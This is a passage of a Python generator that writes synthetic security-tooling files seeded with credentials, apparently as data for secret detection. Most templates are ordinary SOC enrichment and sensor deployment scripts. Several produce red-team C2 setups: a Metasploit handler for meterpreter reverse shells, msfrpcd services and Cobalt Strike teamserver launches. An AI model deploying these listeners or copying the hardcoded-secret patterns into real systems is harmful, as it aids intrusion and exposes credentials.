        body.append('    $r = Invoke-RestMethod -Uri "%s" -Credential $Cred -SkipCertificateCheck' % _ps_url(c.url))
    elif role == "url":
        body.append("    $msg = @{ text = \"IOC hit: $ioc\" } | ConvertTo-Json")
        body.append("    $r = Invoke-RestMethod -Method Post -Uri %s -Body $msg -ContentType 'application/json'" % var)
    elif role == "xapikeys":
        L.append("$AccessKey = $ClientId")
        L.append('$Headers = @{ "X-ApiKeys" = "accessKey=$AccessKey;secretKey=%s" }' % var)
        body.append('    $r = Invoke-RestMethod -Uri "%s" -Headers $Headers -SkipCertificateCheck' % _ps_url(c.url))
    else:  # bare: sentinel shared key
        L.append("$WorkspaceId = $ClientId")
        body += ["    $json = @(@{ Indicator = $ioc; Source = 'hunt' }) | ConvertTo-Json",
                 "    $date = [DateTime]::UtcNow.ToString('r')",
                 '    $str = "POST`n$($json.Length)`napplication/json`nx-ms-date:$date`n/api/logs"',
                 "    $hmac = New-Object System.Security.Cryptography.HMACSHA256",
                 "    $hmac.Key = [Convert]::FromBase64String(%s)" % var,
                 "    $sig = [Convert]::ToBase64String($hmac.ComputeHash([Text.Encoding]::UTF8.GetBytes($str)))",
                 '    $r = Invoke-RestMethod -Method Post -Uri "https://$WorkspaceId.ods.opinsights.azure.com/api/logs?api-version=2016-04-01" `',
                 '        -Headers @{ Authorization = "SharedKey ${WorkspaceId}:$sig"; "Log-Type" = "HuntIoc"; "x-ms-date" = $date } `',
                 "        -Body $json -ContentType 'application/json'"]
    L.append("")
    L.append("foreach ($ioc in $Indicators) {")
    L.append("  try {")
    L += ["  " + b for b in body]
    L.append("      $r | ConvertTo-Json -Depth 5 | Add-Content -Path .\\results.jsonl")
    L.append("  } catch {")
    L.append('      Write-Warning "$ioc : $($_.Exception.Message)"')
    L.append("  }")
    L.append("}")
    name = r.choice(["Invoke-IocLookup.ps1", "Send-SocAlert.ps1", "Get-ThreatContext.ps1", "enrich.ps1"])
    return "%s/%s" % (r.choice(["scripts", "powershell", "tools/ps"]), name), "powershell", L


def r_ps1_agent(c):
    r = c.r
    var = "$" + ("RegPass" if c.generic else c.n("pascal"))
    ver = "4.%d.%d-1" % (r.rint(5, 9), r.rint(0, 5))
    L = ["# GPO startup script: install + enroll Wazuh agent on workstations",
         "# Ticket: SOC-%d" % r.rint(100, 2999),
         "$ErrorActionPreference = 'Stop'",
         "$MsiPath = '\\\\fs01.%s.local\\deploy$\\wazuh\\wazuh-agent-%s.msi'" % (c.corp, ver),
         "$Manager = 'wazuh.%s.internal'" % c.corp,
         "%s = %s" % (var, c.E("ps1")),
         "$Group = '%s'" % r.choice(["windows,workstations", "windows-servers", "default"]),
         "",
         "if (Get-Service -Name WazuhSvc -ErrorAction SilentlyContinue) { exit 0 }",
         "",
         '$Args = "/i `"$MsiPath`" /q WAZUH_MANAGER=$Manager WAZUH_REGISTRATION_SERVER=$Manager " +',
         '        "WAZUH_REGISTRATION_PASSWORD=%s WAZUH_AGENT_GROUP=$Group"' % var,
         "Start-Process msiexec.exe -ArgumentList $Args -Wait",
         "Start-Service WazuhSvc"]
    return "deploy/wazuh/Install-WazuhAgent.ps1", "powershell", L


def _sh_url(url):
    u = url
    for k in ("sha256", "ip", "domain", "email", "urlq"):
        u = u.replace("{%s}" % k, "${ioc}")
    return u


def sh_use(c, ref):
    """curl line(s) using ref (e.g. "${VT_API_KEY}" or literal inline)."""
    sp = c.sp
    role = sp["role"]
    url = _sh_url(c.url)
    m = "-X POST " if sp.get("method") == "post" else ""
    if role == "header":
        return ['  curl -sS %s-H "%s: %s%s" "%s"' % (m, sp["hdr"], sp.get("scheme", ""), ref, url)]
    if role == "query":
        sep = "&" if "?" in url else "?"
        return ['  curl -sS "%s%s%s=%s"' % (url, sep, sp["qp"], ref)]
    if role == "basic":
        if sp["prov"] in ("crowdstrike", "microsoft_entra"):
            return ['  curl -sS -X POST "%s" \\' % url,
                    '    -d "client_id=${CLIENT_ID}" -d "client_secret=%s" \\' % ref,
                    '    -d "grant_type=client_credentials" | jq -r .access_token']
        if sp["prov"] == "atlassian":
            return ['  curl -sS -u "%s:%s" -H "Content-Type: application/json" \\' % (c.user, ref),
                    '    -d "{\\"fields\\":{\\"project\\":{\\"key\\":\\"SOC\\"},\\"summary\\":\\"IOC ${ioc}\\",\\"issuetype\\":{\\"name\\":\\"Task\\"}}}" \\',
                    '    "%s"' % url]
        return ['  curl -sS -u "${API_ID}:%s" "%s"' % (ref, url)]
    if role == "password":
        return ['  curl -sSk -u "%s:%s" "%s"' % (c.user, ref, url)]
    if role == "url":
        return ["  curl -sS -X POST -H 'Content-type: application/json' \\",
                '    --data "{\\"text\\":\\"IOC hit: ${ioc}\\"}" %s' % (ref if ref.startswith('"') else '"%s"' % ref)]
    if role == "xapikeys":
        return ['  curl -sSk -H "X-ApiKeys: accessKey=${ACCESS_KEY}; secretKey=%s" "%s"' % (ref, url)]
    if role == "path":
        return ['  curl -sS -X POST "http://127.0.0.1:1337/%s/v0.1/scan" -d "{\\"urls\\":[\\"${ioc}\\"]}"' % ref]
    if role == "tg":
        return ['  curl -sS "https://api.telegram.org/bot%s/sendMessage" \\' % ref,
                '    -d chat_id="${CHAT_ID}" -d text="IOC hit: ${ioc}"']
    if sp["prov"] == "aws":
        return ['  aws s3 cp "${ioc}" "s3://%s-ir-evidence/triage/"' % c.corp]
    if sp["prov"] == "snort":
        return ['  curl -sSL -o "/tmp/snortrules.tar.gz" "https://www.snort.org/rules/snortrules-snapshot-31470.tar.gz?oinkcode=%s"' % ref]
    return ['  curl -sS -H "X-Key: %s" "%s"' % (ref, url)]


def _strip_q(s):
    return s[1:-1] if len(s) >= 2 and s[0] == s[-1] and s[0] in "\"'" else s


def r_sh(c):
    r, sp = c.r, c.sp
    var = c.n("UP")
    inline = c.generic and r.chance(0.35) and c.v.kind == "lit"
    kind = _ioc_kind(c.url) or "sha256"
    iocs = _sample_iocs(r, kind, r.rint(2, 3))
    L = ["#!/usr/bin/env bash", "# %s" % r.choice(["enrich a list of IOCs (one per line) from stdin or args",
                                                   "quick-and-dirty lookup used during IR",
                                                   "cron: pushes hunt results to the alert channel",
                                                   "helper for the phishing triage runbook"]),
         "set -euo pipefail", ""]
    if not inline:
        L.append("%s=%s" % (var, c.E("sh")))
        ref = "${%s}" % var
    else:
        ref = c.v.text
    if c.idval:
        nm = {"basic": "API_ID", "xapikeys": "ACCESS_KEY"}.get(sp["role"], "AWS_ACCESS_KEY_ID")
        if sp["prov"] in ("crowdstrike", "microsoft_entra"):
            nm = "CLIENT_ID"
        L.append('%s="%s"' % (nm, c.idval))
    if sp["prov"] == "aws":
        L.append("export AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY=%s" % ("${%s}" % var if not inline else ref))
    if sp["role"] == "tg":
        L.append('CHAT_ID="-100%s"' % r.digits(10))
    L.append('OUT="${OUT:-./out/$(date +%F)}"')
    L.append('mkdir -p "${OUT}"')
    L.append("")
    L.append('if [ "$#" -eq 0 ]; then')
    L.append("  set -- %s" % " ".join(iocs))
    L.append("fi")
    L.append("")
    L.append('for ioc in "$@"; do')
    L.append('  echo "[*] ${ioc}" >&2')
    L += sh_use(c, ref)
    L[-1] = L[-1] + ' >> "${OUT}/results.jsonl"'
    L.append("  sleep %d" % r.choice([1, 2, 15, 16]))
    L.append("done")
    name = r.choice(["enrich.sh", "lookup.sh", "notify.sh", "pull_%s.sh" % sp["prov"], "ti.sh"])
    return "%s/%s" % (r.choice(["bin", "scripts", "tools", "ir"]), name), "bash", L


def _sh_assign(c, var):
    return "%s=%s" % (var, c.E("sh"))


def r_authd_sh(c):
    r = c.r
    var = c.n("UP") if not c.generic else r.choice(["PASS", "REG_PASS", "SECRET"])
    if r.chance(0.5):
        L = ["#!/bin/bash", "# Manager side: enable password-based agent enrollment (wazuh-authd)",
             "set -e", _sh_assign(c, var), "",
             'echo "${%s}" > /var/ossec/etc/authd.pass' % var,
             "chmod 640 /var/ossec/etc/authd.pass",
             "chown root:wazuh /var/ossec/etc/authd.pass",
             "sed -i 's|<use_password>no</use_password>|<use_password>yes</use_password>|' /var/ossec/etc/ossec.conf",
             "systemctl restart wazuh-manager",
             'echo "authd password set, agents must pass -P"']
        return "deploy/wazuh/manager_enable_authd.sh", "bash", L
    L = ["#!/bin/bash", "# Linux sensor bootstrap - installs and enrolls the Wazuh agent",
         "set -euo pipefail", 'WAZUH_MANAGER="wazuh.%s.internal"' % c.corp, _sh_assign(c, var),
         'AGENT_GROUP="%s"' % r.choice(["linux", "sensors", "dmz-linux"]), "",
         "curl -s https://packages.wazuh.com/key/GPG-KEY-WAZUH | gpg --dearmor -o /usr/share/keyrings/wazuh.gpg",
         'echo "deb [signed-by=/usr/share/keyrings/wazuh.gpg] https://packages.wazuh.com/4.x/apt/ stable main" \\',
         "  > /etc/apt/sources.list.d/wazuh.list",
         "apt-get update -qq",
         'WAZUH_MANAGER="${WAZUH_MANAGER}" WAZUH_REGISTRATION_PASSWORD="${%s}" \\' % var,
         '  WAZUH_AGENT_GROUP="${AGENT_GROUP}" apt-get install -y wazuh-agent',
         "systemctl daemon-reload && systemctl enable --now wazuh-agent"]
    return "deploy/sensors/install_wazuh_agent.sh", "bash", L


def r_fleet_sh(c):
    r = c.r
    var = c.n("UP")
    inline = c.generic and c.v.kind == "lit"
    arg = c.v.text if inline else '"${%s}"' % var
    L = ["#!/usr/bin/env bash", "# Build osquery installers for the endpoint fleet (Fleet + orbit)",
         "set -euo pipefail", 'FLEET_URL="https://fleet.%s.internal:8412"' % c.corp]
    if not inline:
        L.append(_sh_assign(c, var))
    L += ["", "for t in deb rpm msi pkg; do",
          '  fleetctl package --type="${t}" \\',
          '    --fleet-url="${FLEET_URL}" \\',
          "    --enroll-secret=%s \\" % arg,
          "    --fleet-certificate=./certs/fleet-ca.pem \\",
          "    --enable-scripts --fleet-desktop",
          "done", "ls -lh fleet-osquery*"]
    return "fleet/build_packages.sh", "bash", L


def r_fleet_yaml(c):
    r = c.r
    L = ["---", "apiVersion: v1", "kind: enroll_secret", "spec:", "  secrets:",
         "  - secret: %s" % c.E("yaml"), "---", "apiVersion: v1", "kind: team", "spec:", "  team:",
         "    name: %s" % r.choice(["Servers", "Workstations", "DMZ"]), "    agent_options:",
         "      config:", "        options:", "          distributed_interval: 10",
         "          logger_tls_period: 10"]
    return "fleet/gitops/enroll_secret.yml", "yaml", L


def r_msf_sh(c):
    r = c.r
    inline = c.generic or r.chance(0.4)
    var = c.n("UP")
    ref = (c.E("sh") if c.v.kind != "lit" else quote("sh", c.v.text, c.v.style)) if inline else '"${%s}"' % var
    L = ["#!/bin/bash", "# start msfrpcd for the red-team automation (Cortex / pymetasploit3)",
         "# lab only - %s range" % r.lab_ip().rsplit(".", 2)[0]]
    if not inline:
        L.append(_sh_assign(c, var))
    L += ["LHOST=%s" % r.lab_ip(), "", "pkill -f msfrpcd || true", "sleep 1",
          "msfrpcd -P %s -U msf -a 127.0.0.1 -p 55553 -S" % ref,
          "msfdb status", 'echo "[+] msfrpcd up on 127.0.0.1:55553, LHOST=${LHOST}"']
    return "redteam/%s" % r.choice(["start_rpc.sh", "msf_rpc.sh"]), "bash", L


def r_msf_rc(c):
    r = c.r
    p = c.bare()
    L = ["# %s" % r.choice(["handler + RPC for the purple-team exercise", "autorun for the lab teamserver"]),
         "setg LHOST %s" % r.lab_ip(), "setg LPORT %d" % r.choice([443, 8443, 4444]),
         "load msgrpc ServerHost=127.0.0.1 ServerPort=55552 User=msf Pass=%s SSL=true" % p,
         "use exploit/multi/handler",
         "set PAYLOAD %s" % r.choice(["windows/x64/meterpreter/reverse_https", "linux/x64/meterpreter_reverse_tcp"]),
         "set ExitOnSession false", "exploit -j -z"]
    return "redteam/%s.rc" % r.choice(["handler", "purple_ex%d" % r.rint(1, 9)]), "msf-rc", L


def r_systemd_msf(c):
    p = c.bare()
    L = ["[Unit]", "Description=Metasploit RPC daemon (lab)", "After=network.target postgresql.service", "",
         "[Service]", "Type=simple", "User=msf",
         "ExecStart=/opt/metasploit-framework/bin/msfrpcd -f -P %s -U msf -a 127.0.0.1 -p 55553" % p,
         "Restart=on-failure", "", "[Install]", "WantedBy=multi-user.target"]
    return "redteam/systemd/msfrpcd.service", "systemd-unit", L


def r_systemd_cs(c):
    r = c.r
    p = c.bare()
    L = ["[Unit]", "Description=Cobalt Strike teamserver (red team range)", "After=network.target", "",
         "[Service]", "Type=simple", "WorkingDirectory=/opt/cobaltstrike",
         "ExecStart=/opt/cobaltstrike/teamserver %s %s /opt/cobaltstrike/profiles/%s.profile" % (
             r.lab_ip(), p, r.choice(["jquery-c2.4.9", "amazon", "microsoft_update", "ocsp"])),
         "Restart=on-failure", "RestartSec=10", "", "[Install]", "WantedBy=multi-user.target"]
    return "infra/teamserver/teamserver.service", "systemd-unit", L


def r_cs_sh(c):
    r = c.r
    var = c.n("UP")
    L = ["#!/bin/bash", "# bring up the teamserver for engagement %s" % r.choice(["RT-24-07", "PURPLE-Q3", "RANGE-11"]),
         "cd /opt/cobaltstrike", 'TS_IP="%s"' % r.lab_ip(), "%s=%s" % (var, c.E("sh")),
         'PROFILE="profiles/%s.profile"' % r.choice(["webbug", "gmail", "trevor"]), "",
         "./c2lint \"${PROFILE}\" >/dev/null || { echo 'profile lint failed'; exit 1; }",
         'nohup ./teamserver "${TS_IP}" "${%s}" "${PROFILE}" > teamserver.log 2>&1 &' % var,
         'echo "teamserver started on ${TS_IP}:50050"']
    return "infra/teamserver/start.sh", "bash", L


def r_cs_md(c):
    r = c.r
    ip = r.lab_ip()
    p = c.bare()
    L = ["# Red team range - lab notes (%s)" % today(r), "",
         "## Infra", "", "| host | role | ip |", "|---|---|---|",
         "| ts01 | teamserver | %s |" % ip, "| redir01 | https redirector | %s |" % r.lab_ip(),
         "| dc01 | target DC | %s |" % r.lab_ip(), "",
         "## Teamserver", "", "```", "cd /opt/cobaltstrike",
         "./teamserver %s %s profiles/%s.profile" % (ip, p, r.choice(["amazon", "ocsp", "jquery-c2.4.9"])), "```", "",
         "Operators connect with the client to %s:50050 (user = your handle)." % ip,
         "", "## TODO", "", "- rotate profile before next exercise",
         "- ship beacon logs to the purple-team Elastic (index `rt-beacons-*`)"]
    return "notes/%s.md" % r.choice(["range-setup", "teamserver", "rt-lab-notes"]), "markdown", L


def r_snyk_cli(c):
    r = c.r
    inline = c.v.kind == "lit" and (c.generic or r.chance(0.5))
    var = c.n("UP")
    L = ["#!/usr/bin/env bash", "# nightly SCA of the detection-content repos", "set -euo pipefail"]
    if inline:
        L.append("snyk auth %s" % c.v.text)
    else:
        L.append("%s=%s" % (var, c.E("sh")))
        L.append('snyk auth "${%s}"' % var)
    L += ["for repo in sigma-internal yara-rules soar-playbooks; do",
          '  (cd "/srv/repos/${repo}" && snyk test --all-projects --json > "/srv/reports/${repo}.json") || true',
          "done", "snyk monitor --org=%s-secops --all-projects" % c.corp]
    return "ci/snyk_nightly.sh", "bash", L


def r_suricata_sh(c):
    r = c.r
    var = c.n("UP")
    inline = c.v.kind == "lit" and (c.generic or r.chance(0.5))
    L = ["#!/bin/sh", "# refresh Suricata rules on the sensors (run by cron @ 02:15)", "set -e"]
    if inline:
        arg = c.v.text
    else:
        L.append("%s=%s" % (var, c.E("sh")))
        arg = "${%s}" % var
    L += ["suricata-update update-sources",
          "suricata-update enable-source et/pro secret-code=%s" % arg,
          "suricata-update enable-source oisf/trafficid",
          "suricata-update enable-source abuse.ch/sslbl-ja3",
          "suricata-update --no-test",
          "suricatasc -c reload-rules"]
    return "sensors/suricata/update-rules.sh", "bash", L


def r_suricata_yaml(c):
    L = ["# /etc/suricata/update.yaml", "disable-conf: /etc/suricata/disable.conf",
         "enable-conf: /etc/suricata/enable.conf", "modify-conf: /etc/suricata/modify.conf", "",
         "sources:", "  - et/pro", "  - oisf/trafficid", "", "# secret for et/pro",
         "local:", "  - /etc/suricata/rules/local.rules", "",
         "reload-command: suricatasc -c reload-rules", "",
         "source-params:", "  et/pro:", "    secret-code: %s" % c.E("yaml")]
    return "sensors/suricata/update.yaml", "yaml", L


def r_zeek_sh(c):
    r, sp = c.r, c.sp
    var = c.n("UP")
    L = ["#!/usr/bin/env bash", "# Pull TI feeds into Zeek Intel framework format", "set -euo pipefail",
         "%s=%s" % (var, c.E("sh")), 'INTEL=/opt/zeek/share/zeek/site/intel', ""]
    if sp["prov"] == "abuse_ch":
        L += ['curl -sS -X POST -H "Auth-Key: ${%s}" https://threatfox-api.abuse.ch/api/v1/ \\' % var,
              "  -d '{\"query\":\"get_iocs\",\"days\":1}' \\",
              "  | jq -r '.data[] | select(.ioc_type==\"ip:port\") | .ioc | split(\":\")[0]' \\"]
    else:
        L += ['curl -sS -H "X-OTX-API-KEY: ${%s}" \\' % var,
              "  'https://otx.alienvault.com/api/v1/pulses/subscribed?modified_since=1d' \\",
              "  | jq -r '.results[].indicators[] | select(.type==\"IPv4\") | .indicator' \\"]
    L += ["  | sort -u | awk 'BEGIN{print \"#fields\\tindicator\\tindicator_type\\tmeta.source\"}",
          "      {print $1\"\\tIntel::ADDR\\tfeed\"}' > \"${INTEL}/feed.intel.tmp\"",
          'mv "${INTEL}/feed.intel.tmp" "${INTEL}/feed.intel"',
          "zeekctl deploy"]
    return "sensors/zeek/pull_intel.sh", "bash", L


def _other_env(r, c, n):
    pool = ["LOG_LEVEL=%s" % r.choice(["info", "debug", "warning"]),
            "TZ=UTC", "HTTP_PROXY=http://proxy.%s.internal:3128" % c.corp,
            "NO_PROXY=localhost,127.0.0.1,.%s.internal" % c.corp,
            "CASE_PREFIX=%s" % r.choice(["IR", "SOC", "CERT"]),
            "MISP_URL=https://misp.%s.internal" % c.corp,
            "ELASTIC_URL=https://es01.%s.internal:9200" % c.corp,
            "RATE_LIMIT_PER_MIN=%d" % r.choice([4, 30, 60, 500]),
            "TLP_DEFAULT=%s" % r.choice(["amber", "green", "amber+strict"]),
            "CACHE_TTL=%d" % r.choice([3600, 86400]), "VERIFY_TLS=%s" % r.choice(["true", "false"]),
            "OUTPUT_DIR=/data/enrich", "WORKERS=%d" % r.rint(2, 16)]
    return r.sample(pool, n)


def r_env(c):
    r, sp = c.r, c.sp
    L = ["# %s" % r.choice(["local dev settings for the enrichment worker", "SOC automation - lab",
                            "copied from .env.example, fill in", "sensor stack settings"])]
    others = _other_env(r, c, r.rint(4, 8))
    pos = r.rint(1, len(others))
    if sp.get("idgen"):
        others.insert(pos - 1 if pos > 0 else 0, "%s=%s" % (sp.get("idenv", "CLIENT_ID"), c.idval))
        pos += 1
    v = c.bare()
    if c.v.kind == "lit" and r.chance(0.3):
        v = '"%s"' % v
    others.insert(pos, "%s=%s" % (c.n("UP"), v))
    L += others
    return r.choice([".env", "docker/.env", "deploy/.env.lab", "worker/.env"]), "dotenv", L


def _block_name(sp):
    return sp["prov"].split("_")[0] if sp["prov"] not in ("alienvault_otx", "hybrid_analysis", "abuse_ch") \
        else {"alienvault_otx": "otx", "hybrid_analysis": "hybrid_analysis", "abuse_ch": "abusech"}[sp["prov"]]


def r_ini(c):
    r, sp = c.r, c.sp
    blk = _block_name(sp)
    key = c.ckey if not c.generic else r.choice(["apikey", "key", "token", "secret"])
    if not c.generic and r.chance(0.5):
        key = c.n("low")
    L = ["; %s" % r.choice(["enrichment.ini - read by ti_lookup.py", "tool config (configparser)",
                            "harvest settings", "per-host overrides live in /etc/soc/local.ini"]),
         "[general]", "timeout = %d" % r.choice([10, 20, 30]), "proxy = http://proxy.%s.internal:3128" % c.corp,
         "cache_dir = /var/cache/enrich", "", "[%s]" % blk, "enabled = true"]
    if c.idval:
        L.append("%s = %s" % ("client_id" if "client" in c.ckey else "api_id" if "api_" in c.ckey else "access_key", c.idval))
    if sp["role"] == "password":
        L.append("username = %s" % c.user)
    L.append("%s = %s" % (key, c.bare()))
    if c.url:
        L.append("url = %s" % c.url.split("{")[0].rstrip("/?"))
    L += ["", "[output]", "format = %s" % r.choice(["json", "csv"]), "path = ./out"]
    return r.choice(["config.ini", "conf/enrichment.ini", "settings.ini", "etc/%s.conf" % blk]), "ini", L


def r_qualys_ini(c):
    r = c.r
    L = ["; qualysapi config - used by the VM reporting job", "[info]",
         "hostname = qualysapi.qg%d.apps.qualys.com" % r.rint(1, 4), "username = %s" % c.user,
         "password = %s" % c.bare(), "", "max_retries = 5", "", "[proxy]",
         "; proxy_host = proxy.%s.internal" % c.corp, "; proxy_port = 3128"]
    return r.choice([".qcrc", "config/qualys.ini"]), "ini", L


def r_aws_ini(c):
    r = c.r
    L = ["# shared credentials for the IR collection box", "[default]", "region = eu-west-1", "",
         "[%s-ir]" % c.corp, "aws_access_key_id = %s" % c.idval,
         "aws_secret_access_key = %s" % c.bare(), "region = %s" % r.choice(["eu-west-1", "us-east-1"]),
         "", "[%s-ir-readonly]" % c.corp, "role_arn = arn:aws:iam::%s:role/IRReadOnly" % r.digits(12),
         "source_profile = %s-ir" % c.corp]
    return r.choice(["ir/aws/credentials", ".aws/credentials"]), "ini", L


def r_yaml(c):
    r, sp = c.r, c.sp
    blk = _block_name(sp)
    L = ["# %s" % r.choice(["enrichment pipeline config", "harpoon-style config for OSINT lookups",
                            "IntelOwl-ish connector settings", "ti-aggregator sources"]),
         "version: %d" % r.choice([1, 2]), "timeout: %d" % r.choice([15, 30]), "cache:",
         "  backend: redis", "  url: redis://cache.%s.internal:6379/2" % c.corp, "", "sources:"]
    L.append("  %s:" % blk)
    L.append("    enabled: true")
    if c.url:
        L.append("    base_url: %s" % c.url.split("{")[0].rstrip("/?"))
    if c.idval:
        L.append("    %s: %s" % ("client_id" if "client" in c.ckey else "api_id" if "api_" in c.ckey else "access_key",
                                 c.idval if c.idval[0].isalpha() else '"%s"' % c.idval))
    if sp["role"] == "password":
        L.append("    username: %s" % c.user)
    key = c.ckey if c.generic else r.choice([c.ckey, c.n("low")])
    L.append("    %s: %s" % (key, c.E("yaml")))
    L.append("    rate_limit: %d/min" % r.choice([4, 60, 600]))
    other = r.choice(["misp", "urlhaus", "threatfox", "crtsh"])
    L += ["  %s:" % other, "    enabled: %s" % r.choice(["true", "false"]),
          "    base_url: https://%s.example.internal/" % other, "", "output:", "  - type: file",
          "    path: /data/enrich/{date}.jsonl"]
    return r.choice(["config.yml", "config/sources.yaml", "enrichment.yaml", "conf/ti.yml"]), "yaml", L


def r_json(c):
    r, sp = c.r, c.sp
    blk = _block_name(sp)
    key = c.ckey if c.generic else r.choice([c.ckey, c.n("camel")])
    if c.generic and r.chance(0.5):
        key = r.choice(["apiKey", "key", "token"])
    inner = ['      "enabled": true']
    if c.url:
        inner.append('      "url": "%s"' % c.url.split("{")[0].rstrip("/?"))
    if c.idval:
        inner.append('      "clientId": "%s"' % c.idval)
    if sp["role"] == "password":
        inner.append('      "username": "%s"' % c.user)
    inner.append('      "%s": %s' % (key, c.E("json")))
    inner.append('      "timeout": %d' % r.choice([10, 30]))
    L = ["{", '  "name": "%s-enricher",' % c.corp, '  "version": "%d.%d.%d",' % (r.rint(0, 3), r.rint(0, 20), r.rint(0, 9)),
         '  "providers": {', '    "%s": {' % blk]
    L += [x + "," for x in inner[:-1]] + [inner[-1]]
    L += ["    }", "  },", '  "output": {"type": "elasticsearch", "index": "ti-enrich-%s"}' % r.choice(["v1", "v2"]), "}"]
    return r.choice(["config.json", "settings.json", "conf/providers.json"]), "json", L


def r_toml(c):
    r, sp = c.r, c.sp
    blk = _block_name(sp)
    L = ["# ti-sync configuration", "[server]", 'listen = "127.0.0.1:8088"', "workers = %d" % r.rint(2, 8),
         "", "[providers.%s]" % blk, "enabled = true"]
    if c.url:
        L.append('endpoint = "%s"' % c.url.split("{")[0].rstrip("/?"))
    if c.idval:
        L.append('id = "%s"' % c.idval)
    key = c.ckey if c.generic else r.choice([c.ckey, c.n("low")])
    if c.v.kind == "env":
        L.append("%s_env = \"%s\"" % (key, c.v.text))
    else:
        L.append("%s = %s" % (key, c.E("toml")))
    L += ["", "[storage]", 'path = "/var/lib/ti-sync"', "retention_days = %d" % r.choice([30, 90, 365])]
    return r.choice(["ti-sync.toml", "config.toml"]), "toml", L


def r_tf(c):
    r, sp = c.r, c.sp
    low = c.n("low")
    prov = sp["prov"]
    L = ["# security tooling - %s" % r.choice(["SOAR secrets", "detection infra", "TI connectors"])]
    if prov == "aws":
        L += ['provider "aws" {', '  region     = "eu-west-1"', '  access_key = "%s"' % c.idval,
              "  secret_key = %s" % c.E("tf"), "}", "",
              'resource "aws_s3_bucket" "ir_evidence" {', '  bucket = "%s-ir-evidence"' % c.corp, "}",
              "", 'resource "aws_s3_bucket_versioning" "ir_evidence" {',
              "  bucket = aws_s3_bucket.ir_evidence.id", "  versioning_configuration {", '    status = "Enabled"',
              "  }", "}"]
        return "terraform/ir-bucket/main.tf", "terraform", L
    if prov == "crowdstrike":
        L += ["terraform {", "  required_providers {", "    crowdstrike = {",
              '      source = "crowdstrike/crowdstrike"', "    }", "  }", "}", "",
              'provider "crowdstrike" {', '  cloud         = "us-1"', '  client_id     = "%s"' % c.idval,
              "  client_secret = %s" % c.E("tf"), "}", "",
              'resource "crowdstrike_prevention_policy_linux" "sensors" {', '  name    = "sensors-linux"',
              "  enabled = true", "}"]
        return "terraform/falcon/main.tf", "terraform", L
    if prov == "opsgenie":
        L += ['provider "opsgenie" {', "  api_key = %s" % c.E("tf"), '  api_url = "api.eu.opsgenie.com"', "}", "",
              'resource "opsgenie_team" "soc" {', '  name        = "soc-l2"',
              '  description = "SOC level 2 on-call"', "}"]
        return "terraform/opsgenie/main.tf", "terraform", L
    if prov == "microsoft_entra":
        L += ['provider "azurerm" {', "  features {}", '  tenant_id       = "%s"' % r.uuid(),
              '  subscription_id = "%s"' % r.uuid(), '  client_id       = "%s"' % c.idval,
              "  client_secret   = %s" % c.E("tf"), "}", "",
              'resource "azurerm_sentinel_alert_rule_scheduled" "rare_parent" {',
              '  name                       = "rare-parent-process"',
              "  log_analytics_workspace_id = var.workspace_id",
              '  display_name               = "Rare parent process for rundll32"', '  severity = "Medium"',
              '  query = "DeviceProcessEvents | where FileName =~ \\"rundll32.exe\\""', "}"]
        return "terraform/sentinel/providers.tf", "terraform", L
    if prov == "microsoft_sentinel":
        L += ['resource "azurerm_key_vault_secret" "la_shared_key" {', '  name         = "la-shared-key"',
              "  value        = %s" % c.E("tf"), "  key_vault_id = azurerm_key_vault.soc.id", "}", "",
              'output "workspace_id" {', '  value = "%s"' % c.idval, "}"]
        return "terraform/sentinel/secrets.tf", "terraform", L
    kind = r.choice(["variable", "ssm", "secret"])
    if kind == "variable" and c.v.kind == "lit":
        L += ['variable "%s" {' % low, '  description = "%s credential for the enrichment lambda"' % prov,
              "  type        = string", "  sensitive   = true", "  default     = %s" % c.E("tf"), "}"]
    elif kind == "ssm" or c.v.kind != "lit":
        L += ['resource "aws_ssm_parameter" "%s" {' % low, '  name  = "/soc/enrichment/%s"' % low,
              '  type  = "SecureString"', "  value = %s" % c.E("tf"), "}"]
    else:
        L += ['resource "aws_secretsmanager_secret" "%s" {' % prov, '  name = "soc/%s"' % prov, "}", "",
              'resource "aws_secretsmanager_secret_version" "%s" {' % prov,
              "  secret_id     = aws_secretsmanager_secret.%s.id" % prov,
              "  secret_string = %s" % c.E("tf"), "}"]
    L += ["", 'resource "aws_lambda_function" "enrich" {', '  function_name = "%s-ti-enrich"' % c.corp,
          '  runtime       = "python3.12"', '  handler       = "app.handler"', '  filename      = "build/enrich.zip"',
          "  role          = aws_iam_role.enrich.arn", "  environment {",
          '    variables = { PROVIDER = "%s" }' % prov, "  }", "}"]
    return "terraform/%s/main.tf" % r.choice(["enrichment", "soar", "ti"]), "terraform", L


def r_docker(c):
    r, sp = c.r, c.sp
    var = c.n("UP")
    prov = sp["prov"]
    if c.v.kind == "env":
        val_lines = ["ARG %s" % c.v.text, "ENV %s=${%s}" % (var, c.v.text)]
    else:
        val_lines = ["ENV %s=%s" % (var, quote("docker", c.v.text, c.v.style))]
    if prov == "wazuh":
        L = ["FROM wazuh/wazuh-manager:4.%d.%d" % (r.rint(7, 9), r.rint(0, 4)),
             "LABEL maintainer=\"soc-platform@%s.com\"" % c.corp] + val_lines + [
            "COPY config/ossec.conf /wazuh-config-mount/etc/ossec.conf",
            "COPY rules/local_rules.xml /var/ossec/etc/rules/local_rules.xml",
            'RUN echo "${%s}" > /var/ossec/etc/authd.pass && chmod 640 /var/ossec/etc/authd.pass' % var,
            "EXPOSE 1514 1515 55000"]
        return "docker/wazuh-manager/Dockerfile", "dockerfile", L
    if prov == "proofpoint_et" or prov == "snort":
        L = ["FROM jasonish/suricata:%d.0" % r.rint(6, 7)] + val_lines + [
            "RUN suricata-update update-sources && \\",
            ("    suricata-update enable-source et/pro secret-code=${%s} && \\" % var) if prov == "proofpoint_et"
            else ("    suricata-update add-source talos https://www.snort.org/rules/snortrules-snapshot-29200.tar.gz?oinkcode=${%s} && \\" % var),
            "    suricata-update --no-test",
            "COPY suricata.yaml /etc/suricata/suricata.yaml",
            'ENTRYPOINT ["/usr/bin/suricata", "-c", "/etc/suricata/suricata.yaml", "-i", "eth0"]']
        return "sensors/suricata/Dockerfile", "dockerfile", L
    if prov == "maxmind":
        L = ["FROM ghcr.io/maxmind/geoipupdate:v%d.%d" % (r.rint(6, 7), r.rint(0, 1)),
             "ENV GEOIPUPDATE_ACCOUNT_ID=%s" % r.digits(6)] + val_lines + [
            "ENV GEOIPUPDATE_EDITION_IDS=\"GeoLite2-ASN GeoLite2-City GeoLite2-Country\"",
            "ENV GEOIPUPDATE_FREQUENCY=72", "VOLUME /usr/share/GeoIP"]
        return "docker/geoipupdate/Dockerfile", "dockerfile", L
    if prov == "fleetdm":
